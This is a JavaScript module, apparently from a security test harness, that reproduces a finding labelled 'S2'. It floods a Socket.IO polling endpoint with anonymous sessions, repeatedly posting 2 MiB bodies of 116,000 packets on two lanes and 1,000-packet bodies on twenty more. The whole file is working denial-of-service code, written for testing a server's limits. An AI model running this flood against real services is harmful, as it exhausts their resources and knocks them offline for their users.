import { Agent, request as httpRequest } from 'node:http';
import { Attacker } from '../Attacker.mjs';

const LARGE_LANES = 2;
const SMALL_LANES = 20;
/** Between the polls of a connection: an attacker of any speed would measure the machine. */
const PAUSE_MS = 100;
const PACKET = '42["millrace",{}]';
const SEPARATOR = '\x1e';
const payloadOf = (packets) => Buffer.from(Array(packets).fill(PACKET).join(SEPARATOR));

/**
 * Anonymous polls of the fallback protocol that bring 116,000 requests each in 2 MiB, on two connections, and on 20 more
 * the 1,000 that are allowed, again and again.
 */
export const pollFloods = {
  finding: 'S2',
  async run(attacker) {
    const agent = new Agent({ keepAlive: true });
    const poll = (query, payload) =>
      new Promise((resolve, reject) => {
        const { hostname, port } = new URL(attacker.urls.fallback);
        const path = `/socket.io/?EIO=4&transport=polling${query}`;
        const method = payload === undefined ? 'GET' : 'POST';
        const options = { agent, hostname, port, path, method, localAddress: Attacker.ADDRESS };
        const request = httpRequest(options, (response) => {
          const chunks = [];
          response.on('data', (chunk) => chunks.push(chunk));
          response.on('error', reject);
          response.on('end', () => {
            const text = Buffer.concat(chunks).toString();
            resolve({ status: response.statusCode, text });
          });
        });
        request.on('error', reject);
        request.end(payload);
      });
    const payloads = [payloadOf(116_000), payloadOf(1_000)];
    await attacker.crowd(LARGE_LANES + SMALL_LANES, async (lane) => {
      const { text } = await poll('');
      const sid = `&sid=${/"sid":"([^"]+)"/.exec(text)?.[1]}`;
      await poll(sid, '40');
      const isLarge = lane < LARGE_LANES;
      for (let status = 200; status === 200 && !attacker.isOver;) {
        ({ status } = await poll(sid, payloads[isLarge ? 0 : 1]));
        attacker.sentCount += isLarge ? 116_000 : 1_000;
        attacker.count(status);
        // The answers, as a client would take them.
        if (!isLarge && status === 200) ({ status } = await poll(sid));
        await attacker.pause(PAUSE_MS);
      }
    });
    agent.destroy();
  },
};
